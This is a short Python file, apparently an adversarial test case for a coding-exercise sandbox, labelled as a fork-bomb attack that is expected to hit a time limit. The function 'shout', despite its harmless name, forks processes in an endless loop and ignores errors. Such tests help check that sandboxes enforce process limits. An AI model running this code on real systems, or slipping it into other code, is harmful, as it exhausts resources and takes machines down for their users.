# kata: adv-processes
# verdict: time-limit-exceeded
# attack: a fork bomb where processes are allowed: every process forks and spins
import os


def shout(text):
    while True:
        try:
            os.fork()
        except OSError:
            pass
